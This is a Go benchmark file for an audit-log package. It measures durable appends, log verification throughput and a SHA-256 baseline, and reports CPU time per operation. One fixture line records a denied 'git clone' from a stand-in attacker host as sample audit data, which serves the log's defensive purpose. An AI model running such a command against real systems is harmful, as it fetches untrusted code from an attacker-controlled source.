package audit

import (
	"bytes"
	"crypto/sha256"
	"os"
	"syscall"
	"testing"
	"time"
)

// reportCPU adds the process's CPU time per operation (user + system, all
// threads, GC included) as "cpu-ns/op": on a machine shared with other
// work, wall time per op says more about the load than about the code.
// Call it before the loop.
func reportCPU(b *testing.B) {
	start := cpuTime()
	b.Cleanup(func() {
		if b.N > 0 {
			b.ReportMetric(float64(cpuTime()-start)/float64(b.N), "cpu-ns/op")
		}
	})
}

func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// BenchmarkAppend is one durable event: lock, read the tail, encode,
// write, fdatasync, unlock. Run it on a real disk (t.TempDir is on the
// root file system here, ext4), not a tmpfs.
func BenchmarkAppend(b *testing.B) {
	l, _ := openTest(b)
	ev := denial("run_tests", "git", "clone", "https://attacker.example/repo")
	b.ReportAllocs()
	reportCPU(b)
	for b.Loop() {
		if _, err := l.Append(ev); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkAppendNoSync is Append without the fdatasync: the cost of the
// chain itself.
func BenchmarkAppendNoSync(b *testing.B) {
	orig := syncData
	syncData = func(*os.File) error { return nil }
	b.Cleanup(func() { syncData = orig })
	BenchmarkAppend(b)
}

// benchLog is a 10,000-event log in memory.
func benchLog(b *testing.B) []byte {
	orig := syncData
	syncData = func(*os.File) error { return nil }
	defer func() { syncData = orig }()
	_, lines := writeLog(b, 10000)
	return join(lines)
}

// BenchmarkVerify checks a whole 10,000-event log; MB/s is throughput.
func BenchmarkVerify(b *testing.B) {
	data := benchLog(b)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	reportCPU(b)
	for b.Loop() {
		if _, err := Verify(bytes.NewReader(data)); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkPeerSHA256Lines is the floor under Verify: split the same log
// into lines and SHA-256 each, as "sha256sum" of every line would.
func BenchmarkPeerSHA256Lines(b *testing.B) {
	data := benchLog(b)
	b.SetBytes(int64(len(data)))
	reportCPU(b)
	for b.Loop() {
		for line := range bytes.Lines(data) {
			sha256.Sum256(line)
		}
	}
}
